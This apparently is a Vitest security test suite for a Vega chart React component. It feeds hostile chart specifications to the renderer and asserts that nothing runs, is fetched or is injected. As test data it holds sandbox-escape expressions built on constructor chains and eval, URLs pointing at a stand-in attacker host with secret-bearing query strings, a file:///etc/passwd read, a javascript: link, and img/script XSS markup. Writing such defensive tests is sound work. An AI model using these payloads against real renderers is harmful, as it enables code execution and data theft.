// @vitest-environment happy-dom
// Charts come from agents, agents elsewhere included: here each specification is written by an attacker who wants to run
// something, fetch something, or change the page.
import { cleanup, render, waitFor } from '@testing-library/react'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import VegaChart from './vega-chart.tsx'

/** Every frame has a width at once: this document lays nothing out. */
class FrameWithWidth {
  readonly #told: ResizeObserverCallback
  constructor(told: ResizeObserverCallback) {
    this.#told = told
  }
  observe(target: Element): void {
    const contentRect = { width: 400, height: 220 } as DOMRectReadOnly
    this.#told([{ contentRect, target } as ResizeObserverEntry], this)
  }
  unobserve(): void {}
  disconnect(): void {}
}

const asked: string[] = []
const owned = () => Reflect.get(globalThis, 'owned')

beforeEach(() => {
  // The library reports a rejected request of a chart on the console.
  vi.spyOn(console, 'warn').mockImplementation(() => {})
  asked.length = 0
  Reflect.deleteProperty(globalThis, 'owned')
  vi.stubGlobal('ResizeObserver', FrameWithWidth)
  vi.stubGlobal('fetch', (url: unknown) => {
    asked.push(String(url))
    return Promise.reject(new Error('nothing is fetched here'))
  })
})
afterEach(() => {
  cleanup()
  vi.unstubAllGlobals()
  vi.restoreAllMocks()
})

/** Draws it to its end: drawn, or given up. */
async function draw(spec: Record<string, unknown>): Promise<{ page: HTMLElement; failed: boolean }> {
  let failed = false
  const { container } = render(
    <VegaChart
      spec={spec}
      onFail={() => {
        failed = true
      }}
    />,
  )
  await waitFor(() => expect(failed || container.querySelector('svg') !== null).toBe(true), { timeout: 30_000 })
  return { page: container, failed }
}

const bars = (more: Record<string, unknown> = {}) => ({
  data: { values: [{ a: 'x', b: 1 }] },
  mark: 'bar',
  encoding: { x: { field: 'a', type: 'nominal' }, y: { field: 'b', type: 'quantitative' } },
  ...more,
})
const computing = (calculate: string) => bars({ transform: [{ calculate, as: 'b' }] })

describe('[SECURITY 25] a hostile chart', () => {
  test('an honest one is drawn, its expressions computed', async () => {
    const { page, failed } = await draw(computing('datum.b + 41'))
    expect(failed).toBe(false)
    expect(page.innerHTML).toContain('42')
  })

  test('and nothing is compiled for it: it is drawn where nothing may be', async () => {
    const forbidden = () => {
      throw new Error('code was made of words')
    }
    vi.stubGlobal('Function', new Proxy(Function, { apply: forbidden, construct: forbidden }))
    const { page, failed } = await draw(computing('datum.b + 41'))
    expect(failed).toBe(false)
    expect(page.innerHTML).toContain('42')
  })

  test.each([
    ["''.constructor.constructor('globalThis.owned = 1')()"],
    ["datum.constructor.constructor('globalThis.owned = 1')()"],
    ["[].map.constructor('globalThis.owned = 1')()"],
    ["datum['const' + 'ructor']['const' + 'ructor']('globalThis.owned = 1')()"],
    ["toString.constructor('globalThis.owned = 1')()"],
    ['globalThis.owned = 1'],
    ['window.owned'],
    ["event.view.eval('owned = 1')"],
    ['(function () { globalThis.owned = 1 })()'],
    ["replace('x', /x/, datum.valueOf.constructor('globalThis.owned = 1'))"],
  ])('runs nothing: %s', async (expression) => {
    await draw(computing(expression))
    expect(owned()).toBeUndefined()
  })

  test.each<[string, Record<string, unknown>]>([
    ['data by address', bars({ data: { url: 'https://evil.example/data.json' } })],
    ['data by a file address', bars({ data: { url: 'file:///etc/passwd' } })],
    [
      'a map by address',
      { data: { url: 'https://evil.example/m.json', format: { type: 'topojson', feature: 'x' } }, mark: 'geoshape' },
    ],
    [
      'a lookup by address',
      bars({
        transform: [{ lookup: 'a', from: { data: { url: 'https://evil.example/l.csv' }, key: 'a', fields: ['b'] } }],
      }),
    ],
    ['an image', bars({ mark: { type: 'image', url: 'https://evil.example/?d=secret' } })],
    [
      'an image out of the data',
      {
        data: { values: [{ u: 'https://evil.example/?d=secret' }] },
        mark: 'image',
        encoding: { url: { field: 'u', type: 'nominal' } },
      },
    ],
    ['a link', bars({ mark: { type: 'bar', href: 'javascript:globalThis.owned=1' } })],
    ['a configuration by address', bars({ usermeta: { embedOptions: { config: 'https://evil.example/c.json' } } })],
    ['another loader', bars({ usermeta: { embedOptions: { loader: { http: {} }, ast: false, actions: true } } })],
  ])('fetches nothing and links nowhere: %s', async (_, spec) => {
    const { page } = await draw(spec)
    expect(asked).toEqual([])
    const elements = [...page.querySelectorAll('*')]
    expect(
      elements.map(({ tagName }) => tagName).filter((name) => /^(img|script|iframe|details)$/i.test(name)),
    ).toEqual([])
    const led = elements.flatMap((one) => ['href', 'xlink:href', 'src', 'style'].map((name) => one.getAttribute(name)))
    expect(led.filter((value) => /evil|javascript|passwd/.test(value ?? ''))).toEqual([])
    expect(owned()).toBeUndefined()
  })

  test('words with markup in them are words', async () => {
    const title = '<img src=x onerror="globalThis.owned=1"><script>globalThis.owned=1</script>'
    const { page } = await draw(bars({ title, data: { values: [{ a: title, b: 1 }] } }))
    expect(page.querySelector('img, script')).toBeNull()
    expect(owned()).toBeUndefined()
  })

  test('rejects what is not a chart at once', async () => {
    expect((await draw({ $schema: 'https://evil.example/schema.json', signals: [] })).failed).toBe(true)
  })
})
